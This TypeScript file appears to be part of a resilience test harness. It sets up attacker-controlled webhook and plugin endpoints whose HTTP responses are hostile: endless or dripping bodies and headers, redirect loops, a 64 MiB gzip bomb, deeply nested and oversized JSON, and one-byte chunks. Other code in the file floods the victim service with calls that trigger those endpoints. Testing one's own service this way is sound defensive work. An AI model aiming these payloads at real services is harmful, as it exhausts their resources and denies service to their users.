// Attacks by responses: webhooks and plugins of the attacker whose endpoints respond with far too much, or too slowly.
import { createServer, type RequestListener } from 'node:http'
import type { Socket } from 'node:net'
import { setInterval as every } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { ATTACKER_ADDRESS, callFrom, HONEST_ADDRESS, PIECE_BYTES, PIECE_INTERVAL_MS } from './call-from.ts'
import { type Attack, createSealed, flood, type Outcome, preparedAttack, type Victim } from './flood.ts'

/** Loaded only by the program that prepares the attacks. */
const loadSetup = () => import('./company-setup.ts')

const DRIP_MS = 200
const REDIRECTS = 20

const drip = async (socket: Socket, begin: string, next: (turn: number) => string): Promise<void> => {
  socket.on('error', () => undefined).write(begin)
  let turn = 0
  for await (const _ of every(DRIP_MS)) {
    if (socket.destroyed) return
    socket.write(next(++turn))
  }
}

const spaces = Buffer.alloc(PIECE_BYTES, ' ')

/** Without end, as fast as over a network: the buffers of this machine take ten megabytes at once, which costs both sides. */
const pour = (socket: Socket, head: string): void => {
  const timer = setInterval(() => void (socket.writableNeedDrain || socket.write(spaces)), PIECE_INTERVAL_MS)
  socket.on('error', () => undefined).on('close', () => clearInterval(timer))
  socket.write(head)
  socket.write(spaces)
}

// Bytes that all responses share: the attacker has little processor time, and none to lose with making them again.
const MIB = 1024 * 1024
/** 64 MiB, as members of gzip that each have one. */
const bomb = Buffer.concat(new Array(64).fill(gzipSync(Buffer.alloc(MIB, ' '))))
const deep = Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)
const wide = Buffer.from(`{"field_types":[${'{},'.repeat(80_000)}{}]}`)
/** A body in pieces of one byte. */
const crumbs = Buffer.from(`${'1\r\n \r\n'.repeat(200_000)}0\r\n\r\n`)

/** Each request gets the next kind of response. */
const responses: readonly RequestListener[] = [
  ({ socket }) =>
    pour(socket, 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1073741824\r\n\r\n'),
  ({ socket }) => pour(socket, 'HTTP/1.1 200 '),
  ({ socket }) => void drip(socket, 'HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n', () => 'x'),
  ({ socket }) => void drip(socket, 'HTTP/1.1 200 OK\r\n', (turn) => `X-${turn}: ${'x'.repeat(4_000)}\r\n`),
  ({ url = '/' }, response) => {
    const count = Number(new URL(url, 'http://a').searchParams.get('n') ?? 0)
    response.writeHead(307, { location: `/?n=${(count + 1) % REDIRECTS}` }).end()
  },
  (_, response) => {
    response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' }).end(bomb)
  },
  (_, response) => response.writeHead(200, { 'content-type': 'application/json' }).end(deep),
  (_, response) => response.writeHead(200, { 'content-type': 'application/json' }).end(wide),
  ({ socket }) => {
    socket.on('error', () => undefined).write('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n')
    socket.write(crumbs)
  },
]

/** Returns the number of requests that it has got. */
const startEndpoint = async (port: number): Promise<() => number> => {
  let count = 0
  const server = createServer((incoming, response) => {
    const respond = responses[count % responses.length]
    count += 1
    incoming.resume().on('end', () => respond?.(incoming, response))
  })
  server.on('clientError', (_, socket) => socket.destroy())
  await new Promise<void>((resolve) => server.listen(port, ATTACKER_ADDRESS, resolve))
  return () => count
}

const WEBHOOKS = 20

const hostileWebhooks = preparedAttack({
  name: `${WEBHOOKS} webhooks of one company to endpoints whose responses are endless, and events for all of them`,
  effects: ['requests to the endpoint'],
  async prepare(victim) {
    const url = `http://${victim.address}:${victim.port}`
    return { port: victim.port, ...(await (await loadSetup()).createSender(victim, { count: WEBHOOKS, url })) }
  },
  async run({ port, apiUrl, token, path }, seconds): Promise<Outcome> {
    const countRequests = await startEndpoint(port)
    const messages = await flood(10, seconds, () =>
      callFrom(ATTACKER_ADDRESS, apiUrl, 'POST', path, { token, body: { body: createSealed(64) } }),
    )
    return { ...messages, 'requests to the endpoint': countRequests() }
  },
})

const PLUGINS = 10

const createPlugin = async ({ company }: Victim, base_url: string): Promise<{ plugin_id: string; pass: string }> => {
  const options = { token: company.token, body: { base_url } }
  const { status, text } = await callFrom(HONEST_ADDRESS, company.apiUrl, 'POST', '/api/account/plugins', options)
  if (status !== 201) throw new Error(`a plugin was refused: ${status} ${text.slice(0, 200)}`)
  const { plugin, registry_pass } = JSON.parse(text)
  return { plugin_id: plugin.id, pass: registry_pass.pass }
}

const hostilePlugins = preparedAttack({
  name: '30 descriptions at once of plugins of one company whose replies are endless',
  effects: ['requests to the endpoint'],
  async prepare(victim) {
    const plugins: object[] = []
    for (let count = 0; count < PLUGINS; count += 1)
      plugins.push(await createPlugin(victim, `http://${victim.address}:${victim.port}/${count}`))
    return { plugins, port: victim.port, forwarder: victim.forwarder }
  },
  async run({ plugins, port, forwarder }, seconds): Promise<Outcome> {
    const countRequests = await startEndpoint(port)
    let turn = 0
    const calls = await flood(30, seconds, () => {
      turn += 1
      return callFrom(ATTACKER_ADDRESS, forwarder, 'POST', '/describe', { body: plugins[turn % plugins.length] })
    })
    return { ...calls, 'requests to the endpoint': countRequests() }
  },
})

export const endpointFloods: readonly Attack[] = [hostileWebhooks, hostilePlugins]
